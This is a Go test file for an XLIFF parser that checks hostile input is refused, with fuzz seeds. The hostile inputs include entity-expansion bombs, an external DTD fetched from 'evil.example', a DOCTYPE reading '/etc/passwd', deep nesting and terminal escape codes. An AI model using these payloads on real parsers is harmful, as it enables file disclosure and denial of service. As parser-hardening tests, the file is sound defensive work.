package xliff

import (
	"bytes"
	"strings"
	"testing"
)

// lowLimits makes the limits on units and items small for a test.
func lowLimits(t *testing.T, units, items int) {
	u, i := unitLimit, itemLimit
	unitLimit, itemLimit = units, items
	t.Cleanup(func() { unitLimit, itemLimit = u, i })
}

// Hostile XLIFF (issue 11, item 5): every way to make Read work without
// bound is refused with a positioned error.
func TestReadBounds(t *testing.T) {
	if unitLimit != 250_000 || itemLimit != 2_000_000 {
		t.Fatalf("limits %d units, %d items", unitLimit, itemLimit)
	}
	lowLimits(t, 100, 1000)
	head := `<xliff version="1.2"><file target-language="en"><body>`
	unit := `<trans-unit id="a#b0-00000000"/>`
	tests := []struct{ name, in, want string }{
		{"deep native code", head + `<trans-unit id="u"><source><ph id="1">` + strings.Repeat("<sub>", 100000), "x.xlf:1:"},
		{"deep native code message", head + `<trans-unit id="u"><source><ph id="1">` + strings.Repeat("<sub>", 300), "nested more than 256 deep"},
		{"deep groups", head + strings.Repeat("<group>", 300), "nested more than 256 deep"},
		{"too many units", head + strings.Repeat(unit, 101) + `</body></file></xliff>`, "x.xlf:1:3255: more than 100 trans-units in one file; export fewer articles per file"},
		{"too many placeholders", head + `<trans-unit id="u"><source>` + strings.Repeat(`<x id="1"/>`, 1001) + `</source></trans-unit></body></file></xliff>`, "more than 1000 inline elements, notes and contexts in one file"},
		{"too many notes", head + `<trans-unit id="u">` + strings.Repeat(`<note/>`, 1001) + `</trans-unit></body></file></xliff>`, "more than 1000 inline elements"},
		{"too many contexts", head + `<trans-unit id="u"><context-group>` + strings.Repeat(`<context/>`, 1001) + `</context-group></trans-unit></body></file></xliff>`, "more than 1000 inline elements"},
		{"entity bomb", `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><xliff version="1.2"/>`, "x.xlf:1:1: a DTD with entity declarations"},
		{"parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xliff version="1.2"/>`, "x.xlf:1:1: a DTD"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Read("x.xlf", strings.NewReader(tt.in))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Read error = %v, want one containing %q", err, tt.want)
			}
		})
	}
	// The limits themselves are accepted.
	d, err := Read("x.xlf", strings.NewReader(head+strings.Repeat(unit, 100)+`</body></file></xliff>`))
	if err != nil || len(d.Files[0].Units) != 100 {
		t.Errorf("100 units: %v", err)
	}
}

// endless never ends.
type endless struct{ read int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	e.read += int64(len(p))
	return len(p), nil
}

func TestReadSizeLimitWhileReading(t *testing.T) {
	in := &endless{}
	_, err := Read("x.xlf", in)
	if err == nil || err.Error() != "x.xlf:1:1: larger than 64 MiB, the most ceviri reads from one file" {
		t.Errorf("err = %v", err)
	}
	if in.read > MaxSize+1<<20 {
		t.Errorf("read %d bytes", in.read)
	}
}

// hostileSeeds are the hostile cases of issue 11 for FuzzRead, small.
var hostileSeeds = [][]byte{
	[]byte(`<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><xliff version="1.2"><file><body><trans-unit id="u"><source>&b;</source></trans-unit></body></file></xliff>`),
	[]byte(`<!DOCTYPE x SYSTEM "file:///etc/passwd"><xliff version="1.2"/>`),
	[]byte(`<xliff version="1.2"><file><body><trans-unit id="u"><source><ph id="1">` + strings.Repeat("<sub>", 300) + `</ph></source></trans-unit></body></file></xliff>`),
	[]byte(`<xliff version="1.2"><file><body><trans-unit id="u"><source>` + strings.Repeat("<mrk>", 300) + `</source></trans-unit></body></file></xliff>`),
	[]byte(`<xliff version="1.2"><file><body>` + strings.Repeat("<group>", 300) + `</body></file></xliff>`),
	[]byte(`<xliff version="1.2"><file target-language="en"><body>` + strings.Repeat(`<trans-unit id="a#b0-00000000"/>`, 100) + `</body></file></xliff>`),
	[]byte(`<xliff version="1.2"><file><body><trans-unit id="u"><source>` + strings.Repeat(`<x id="1"/>`, 100) + `</source><target><g id="1"><mrk mtype="seg"><ph id="1">[</ph>a&#27;[2J&#x7;</mrk></g></target></trans-unit></body></file></xliff>`),
	[]byte("\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"UTF-16\"?><xliff version=\"1.2\"/>"),
	bytes.Repeat([]byte(" "), 1000),
}
